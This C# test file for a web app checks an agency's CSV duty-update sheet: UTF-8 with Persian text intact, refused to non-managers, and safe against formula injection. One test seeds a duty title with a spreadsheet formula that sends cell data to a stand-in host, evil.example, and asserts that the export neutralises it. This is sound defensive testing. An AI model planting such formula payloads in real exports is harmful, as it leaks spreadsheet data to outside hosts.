using System.Net;
using System.Text;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using Salam.Application.Duties.Commands.ImportDutyUpdates;
using Salam.Domain.Duties;
using Salam.Infrastructure.Identity;
using Salam.Infrastructure.Persistence;
using Salam.Testing;

namespace Salam.Web.Tests;

/// <summary>The agency's update sheet: a file the import reads back, with Persian intact, and only for agency managers.</summary>
public sealed class UpdateSheetTests(SalamWebFactory factory) : IClassFixture<SalamWebFactory>
{
    [Fact]
    public async Task An_agency_manager_downloads_their_open_duties_as_a_utf8_sheet_the_import_reads_back()
    {
        var client = factory.NewClient();
        await client.SignInStaffAsync("agency.qom.welfare");

        var response = await client.GetAsync("/agency/update-sheet.csv");
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        var file = await response.Content.ReadAsByteArrayAsync();

        Assert.True(file.AsSpan().StartsWith(Encoding.UTF8.Preamble), "Excel needs the BOM to show Persian");
        var rows = DutyCsv.Parse(file);
        Assert.NotEmpty(rows);
        Assert.DoesNotContain(rows, r => r.Status is "Done" or "Declined");
        Assert.Contains("پردیسان", Encoding.UTF8.GetString(file));
    }

    [Fact]
    public async Task A_duty_title_that_would_start_a_formula_is_neutralised_in_the_sheet_and_the_sheet_still_imports()
    {
        const string formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"جزئیات\")";
        int dutyId;
        await using (var scope = factory.Services.CreateAsyncScope())
        {
            var db = scope.ServiceProvider.GetRequiredService<SalamDbContext>();
            var agencyId = await db.Users.Where(u => u.UserName == "agency.qom.welfare").Select(u => u.AgencyId).SingleAsync();
            dutyId = await db.Duties.Where(d => d.AgencyId == agencyId && d.Status != DutyStatus.Done && d.Status != DutyStatus.Declined).Select(d => d.Id).FirstAsync();
            // The title a need gave its duty, as an attacker would have typed it.
            await db.Duties.Where(d => d.Id == dutyId).ExecuteUpdateAsync(s => s.SetProperty(d => d.Title, formula));
        }
        var client = factory.NewClient();
        await client.SignInStaffAsync("agency.qom.welfare");

        var file = await client.GetByteArrayAsync("/agency/update-sheet.csv");

        using var reader = CsvReader.Create(file.AsMemory(Encoding.UTF8.Preamble.Length), new CsvReaderOptions { HasHeader = true });
        var titles = new Dictionary<string, string>();
        while (reader.Read()) titles[reader["duty_id"].ToString()] = reader["title"].ToString();
        Assert.Equal("'" + formula, titles[dutyId.ToString(System.Globalization.CultureInfo.InvariantCulture)]);
        Assert.DoesNotContain(titles.Values, t => t.StartsWith('='));
        Assert.Contains(DutyCsv.Parse(file), r => r.DutyId == dutyId.ToString(System.Globalization.CultureInfo.InvariantCulture));
    }

    [Theory]
    [InlineData("facilitator.pardisan")]
    [InlineData("ministry")]
    public async Task Anyone_but_an_agency_manager_is_refused_the_sheet(string userName)
    {
        var client = factory.NewClient();
        await client.SignInStaffAsync(userName);
        var response = await client.GetAsync("/agency/update-sheet.csv");
        Assert.True(response.StatusCode is HttpStatusCode.Forbidden or HttpStatusCode.Redirect, $"got {response.StatusCode}");
        Assert.NotEqual("text/csv", response.Content.Headers.ContentType?.MediaType);
    }
}
